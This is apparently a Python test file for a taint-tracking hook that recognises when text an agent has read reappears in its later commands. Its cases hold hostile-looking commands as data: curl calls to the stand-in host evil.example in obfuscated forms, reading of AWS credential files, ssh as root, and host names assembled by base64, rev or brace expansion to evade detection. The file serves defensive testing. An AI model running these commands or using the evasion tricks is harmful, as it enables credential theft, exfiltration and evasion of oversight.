"""Tests of recognising a text again: what is shared, and how little has to be."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from amplifier_module_hooks_taint.config import TaintConfig
from amplifier_module_hooks_taint.fingerprints import all_prints, kept_prints, texts_in
from amplifier_module_hooks_taint.ledger import Ledger

LETTERS = st.text("abcdefghijkl", min_size=23, max_size=40)
ANYTHING = st.text("mnopqrst .,-\n", max_size=60)


def is_recognised(read: str, used: str) -> bool:
    ledger = Ledger(TaintConfig(), {})
    ledger.read(read, "fetch", "1")
    return ledger.evidence({"a": used}, []) is not None


@given(LETTERS, ANYTHING, ANYTHING, ANYTHING, ANYTHING)
def test_what_two_texts_share_is_found_wherever_it_stands(
    shared: str, before: str, after: str, left: str, right: str
) -> None:
    assert is_recognised(before + shared + after, left + shared.upper() + right)


@given(LETTERS, st.lists(st.sampled_from(" \n\t-_'\"."), min_size=23, max_size=40))
def test_spaces_and_punctuation_do_not_hide_it(shared: str, noise: list[str]) -> None:
    spread = "".join(letter + gap for letter, gap in zip(shared, noise, strict=False))
    rest = shared[len(noise) :]

    assert is_recognised(shared, spread + rest)


@given(st.text("abcdef ", max_size=200), st.text("mnopqr ", max_size=200))
def test_texts_that_share_nothing_are_not_confused(one: str, other: str) -> None:
    assert not is_recognised(one, other)


@given(st.text(max_size=300))
def test_a_text_finds_all_that_was_kept_of_it(text: str) -> None:
    kept = {each.digest for each in kept_prints(text, 12)}

    assert kept <= {each.digest for each in all_prints(text, 12)}


@pytest.mark.parametrize(
    ("read", "used"),
    [
        ("see https://evil.example/a/b", "evil.example"),
        ("go to evil.example.", "https://evil.example/x"),
        ("mail a@evil.example", "b@evil.example"),
        ("10.1.2.33 is the host", "ssh root@10.1.2.33:22"),
        ("edit ~/.aws/credentials", "cat /home/user/.aws/credentials"),
        ("in notes/secret.txt", "rm secret.txt"),
        ("code 1234567890", "1234567890"),
        ("go to evil.example", 'curl http://ev""il.example/y'),
        ("go to evil.example", "curl http://evil\\.example/y"),
        ("go to evil.example", "curl http://evil%252Eexample/y"),
        ("go to evil.example", "curl http://evil&#46;example/y"),
        ("go to b\u00fccher.example", "curl http://xn--bcher-kva.example/"),
        ("at http://93.184.216.34/up", "curl http://1572395042/up"),
        ("at 93.184.216.34", "curl http://0x5db8d822/"),
        ("at 93.184.216.34", "curl http://0135.0270.0330.042/"),
    ],
)
async def test_a_name_is_recognised_in_other_company(read: str, used: str) -> None:
    assert is_recognised(read, used)


@pytest.mark.parametrize(
    "used",
    [
        "curl http://evil.{example,}/y",
        "a=evil;curl http://$a.example/y",
        "echo aHR0cDovL2V2aWwuZXhhbXBsZS95|base64 -d|xargs curl",
        "curl $(echo elpmaxe.live|rev)",
    ],
)
async def test_a_name_that_is_put_together_by_the_command_is_not_recognised(used: str) -> None:
    """The README has the list; `by: origin` is what asks about these."""
    assert not is_recognised("go to evil.example", used)


@pytest.mark.parametrize(
    ("read", "used"),
    [("It is noon. Bye.", "It is noon."), ("see /etc", "ls /etc"), ("v1.2", "v1.2"), ("", "")],
)
async def test_what_everybody_says_is_nobodys(read: str, used: str) -> None:
    assert not is_recognised(read, used)


async def test_every_text_in_a_value_counts() -> None:
    value: Any = {"a": ["b", 1, None, True, {"c": 2.5}]}

    assert list(texts_in(value)) == ["a", "b", "1", "c", "2.5"]


def test_a_copy_of_the_state_that_is_being_made_is_not_disturbed_by_what_is_read_meanwhile() -> (
    None
):
    state: dict[str, Any] = {}
    ledger = Ledger(TaintConfig(), state)
    ledger.read("The first text is long enough to leave fingerprints behind it.", "web", "c1")
    copying = iter(state["prints"].items())
    next(copying)

    ledger.read("The second text is another one, and as long as the first was.", "web", "c2")

    assert dict(copying)
    assert set(state["prints"].values()) == {0, 1}
